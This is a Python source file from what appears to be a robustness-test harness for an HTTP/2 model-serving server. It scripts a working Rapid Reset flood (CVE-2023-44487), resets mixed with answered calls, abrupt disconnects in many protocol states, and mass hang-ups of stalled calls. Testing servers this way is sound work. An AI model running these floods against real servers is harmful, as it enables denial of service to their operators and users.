"""Calls that are given up: rapid resets, and hanging up in every state."""

from attack import Attack
from attacker import LISTEN
from effort import Effort
from http2_bytes import (CLASSIFY, DATA, INITIAL_WINDOW_SIZE, PREFACE, data,
                         frame, headers, reset, settings)
from questions import (CLASSIFY_STREAM, DIGIT, MNIST_INPUTS, OPEN_WINDOWS,
                       SMALL, asked, begun, classify, on_stream, streams)

AT_ONCE = 8
STREAMS_A_BLOB = 500
# Of one connection: more than a server should bear.
MOST_RESETS = 2_000
RESETS_AT_ONCE = 20  # with three other calls each: fewer than may be open
ANSWER_SECONDS = 0.002
BLOBS = [streams(STREAMS_A_BLOB, 1 + 2 * STREAMS_A_BLOB * i) for i in range(10)]

# --- Rapid reset (CVE-2023-44487) --------------------------------------------


def resetting(head, rest, effort):
    """Opens and resets streams until the server has enough of it."""
    blobs = [b"".join(on_stream(head, stream) + on_stream(rest, stream)
                      + reset(stream) for stream in numbers)
             for numbers in BLOBS]

    def script(me):
        yield PREFACE + settings()
        for blob in blobs:
            yield blob
            effort.add(STREAMS_A_BLOB)
            if effort.enough:
                return
        yield LISTEN

    return script


def rapid_reset(name, head, rest=b""):
    def run(crowd, scale):
        effort = Effort(scale.resets, scale.seconds)
        crowd.run(effort.repeat(resetting(head, rest, effort)), AT_ONCE)
        return f"{effort.done:,} {name} reset at once"

    return Attack("rapid_reset_of_" + name.replace(" ", "_"), run,
                  incidents=("resets",))


def resets_among_answered_calls(crowd, scale):
    """Three calls are answered for each that is reset."""
    effort = Effort(scale.resets // 20, scale.seconds)
    groups = [range(first, first + 8 * RESETS_AT_ONCE, 8)
              for first in range(1, 8 * MOST_RESETS, 8 * RESETS_AT_ONCE)]
    blobs = [b"".join(asked(first, SMALL) + asked(first + 2, SMALL)
                      + asked(first + 4, SMALL) + begun(first + 6)
                      + reset(first + 6) for first in group)
             for group in groups]

    def script(me):
        yield OPEN_WINDOWS
        for sent, blob in enumerate(blobs, 1):
            yield blob
            effort.add(RESETS_AT_ONCE)
            # So that the calls are answered, and earn what they can.
            while me.heard.ended < 3 * RESETS_AT_ONCE * sent:
                yield ANSWER_SECONDS
        yield LISTEN

    crowd.run(effort.repeat(script), AT_ONCE)
    return f"{effort.done:,} calls reset at once, and three answered for each"


# --- Hanging up ---------------------------------------------------------------

HANG_UPS = 3
HELLO = PREFACE + settings()
SOME_DIGITS = classify("mnist", 20, MNIST_INPUTS)
HEAD = headers(1, CLASSIFY)
MESSAGE = frame(DATA, 0, 1, SMALL)
# What was said before, from nothing to a call that is being answered.
STATES = {
    "connected": b"",
    "in the preface": PREFACE[:10],
    "before SETTINGS": PREFACE,
    "idle": HELLO,
    "in a frame's header": HELLO + HEAD[:5],
    "in a header block": HELLO + headers(1, CLASSIFY, flags=0),
    "in HEADERS": HELLO + HEAD[:30],
    "a call open": HELLO + HEAD,
    "in a prefix": HELLO + HEAD + frame(DATA, 0, 1, SMALL[:3]),
    "in a message": HELLO + HEAD + frame(DATA, 0, 1, SMALL[:20]),
    "in DATA": HELLO + HEAD + MESSAGE[:20],
    "message sent, call open": HELLO + HEAD + MESSAGE,
    "asked": HELLO + asked(1, SMALL),
    "asked for long": HELLO + asked(1, SOME_DIGITS),
    "much in flight": HELLO + b"".join(
        asked(stream, DIGIT) for stream in streams(100)),
    "streaming": HELLO + begun(1, CLASSIFY_STREAM)
                 + frame(DATA, 0, 1, SMALL * 50),
    "gone already": HELLO + asked(1, SMALL) + reset(1),
}


def half_closing(said):
    def script(me):
        if said:
            yield said
        me.half_close()
        yield LISTEN

    return script


def aborting(said):
    def script(me):
        if said:
            yield said
        me.abort()
        yield b""  # where the connection ended, so does the script

    return script


def resetting_streams(said):
    """Resets what it has opened, or what it never has, and goes on."""
    def script(me):
        yield (said or HELLO) + b"".join(reset(s) for s in streams(100))
        me.half_close()
        yield LISTEN

    return script


def abrupt_disconnects(crowd, scale):
    for way in (half_closing, aborting, resetting_streams):
        effort = Effort(scale.ends // 3, scale.seconds / 3)

        def counted(script):
            def run(me):
                effort.add()
                yield from script(me)
            return run

        scripts = [counted(way(said)) for said in STATES.values()]
        crowd.run(effort.repeat(*scripts), at_once=64)
    return (f"{crowd.connections:,} half-closes and resets in "
            f"{len(STATES)} states")


def waiting(count):
    """Calls whose replies have no window."""
    return (PREFACE + settings((INITIAL_WINDOW_SIZE, 0))
            + b"".join(asked(stream, SMALL) for stream in streams(count)))


def hanging_up_with_many_calls(crowd, scale):
    calls = scale.waiting
    blob = waiting(calls)
    effort = Effort(HANG_UPS, 0)

    def script(me):
        yield blob
        yield scale.seconds / 4
        effort.add()
        me.abort()
        yield b""

    crowd.run(effort.repeat(script), at_once=1)
    return f"{effort.done} times {calls:,} calls that wait, and are let go"


ATTACKS = [
    rapid_reset("small calls", begun(1), data(1, SMALL)),
    rapid_reset("digits", begun(1), data(1, DIGIT)),
    rapid_reset("headers", begun(1)),
    Attack("resets_among_answered_calls", resets_among_answered_calls,
           incidents=("resets",)),
    Attack("abrupt_disconnects", abrupt_disconnects),
    # Beyond the default number of calls of a connection, an event may be long.
    Attack("hanging_up_with_many_calls", hanging_up_with_many_calls,
           flags=("--max-streams", "100000"), long_events=True),
]
